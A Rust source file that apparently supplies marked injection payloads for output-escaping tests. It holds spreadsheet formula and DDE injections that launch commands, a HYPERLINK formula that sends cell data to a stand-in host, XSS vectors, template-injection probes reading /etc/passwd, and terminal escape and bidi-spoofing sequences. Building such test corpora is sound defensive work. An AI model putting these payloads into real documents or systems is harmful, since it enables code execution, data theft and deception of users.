//! Words that a program could take for an instruction. Where one must stand at the end of the text, `@@` says where the
//! mark goes by which the text is found again.

/// Spreadsheets: formulas, DDE, and what hides the sign in front.
const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=HYPERLINK(\"http://e.example/\"&A2,\"click\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=WEBSERVICE(\"http://e.example/\")",
    "\",=1+1",
    ";=1+1",
    "'=1+1",
];

/// Browsers: elements, attributes, entities, comments.
const HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</td></tr></table><h1>x</h1>",
    "<!-- hidden @@",
    "--><b>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;b&#62;x",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=//e.example></iframe>",
    "<![CDATA[x]]>",
    "<?php echo 1 ?>",
    "<form action=//e.example><input name=x>",
];

/// Readers of Markdown.
const MARKDOWN: &[&str] = &[
    "a | b | c",
    "a \\| b",
    "[x](http://e.example/)",
    "![x](http://e.example/p.png)",
    "<http://e.example/>",
    "http://e.example/",
    "www.e.example",
    "[ref]: http://e.example/ @@",
    "[^1]: note",
    "# Heading",
    "x @@\n# Heading",
    "---\ntitle: x\n---\n@@",
    "Title @@\n=====",
    "Title @@\n-----",
    "```\ncode\n```\n@@",
    "~~~ @@",
    "    code",
    "> quote",
    "* list",
    "1. list",
    "- [x] task",
    "**bold** _it_ `code` ~~gone~~",
    "$x^2$",
    "@@ {#id .class}",
];

/// Template engines and site generators.
const TEMPLATES: &[&str] = &[
    "{{ 7*191 }}",
    "{% raw %}",
    "{% for x in [1] %}{{ 7*191 }}{% endfor %}",
    "{# gone #}",
    "{{ get_env(name=\"HOME\") }}",
    "{%- include \"/etc/passwd\" -%}",
    "${7*191}",
    "<%= 7*191 %>",
];

/// Terminals and logs: sequences of C0 and C1, direction, nothing to see, another line.
const TERMINAL: &[&str] = &[
    "\u{1b}[31mred",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]8;;http://e.example/\u{7}x\u{1b}]8;;\u{7}",
    "\u{1b}]52;c;ZXZpbA==\u{7}",
    "\u{1b}]0;title\u{1b}\\",
    "\u{1b}P$q\u{1b}\\",
    "\u{9b}31mred",
    "\u{9d}52;c;ZXZpbA==\u{9c}",
    "bell\u{7}",
    "safe\u{8}\u{8}\u{8}\u{8}evil",
    "x @@\rerror: forged",
    "x @@\nerror: forged",
    "x @@\r\nset aside forged",
    "\u{202e}gnp.exe",
    "\u{2066}x\u{2069}",
    "zero\u{200b}width\u{200d}",
    "\u{feff}mark",
    "line\u{2028}line\u{2029}",
    "tags\u{e0041}\u{e0042}",
    "del\u{7f}",
    "nul\0nul",
];

/// Every payload with its mark: `z07`.
pub fn all() -> Vec<String> {
    [FORMULAS, HTML, MARKDOWN, TEMPLATES, TERMINAL]
        .concat()
        .into_iter()
        .enumerate()
        .map(|(i, payload)| {
            let mark = mark(i);
            if payload.contains("@@") { payload.replace("@@", &mark) } else { format!("{payload} {mark}") }
        })
        .collect()
}

/// The mark of a payload.
pub fn mark(i: usize) -> String {
    format!("z{i:02}z")
}
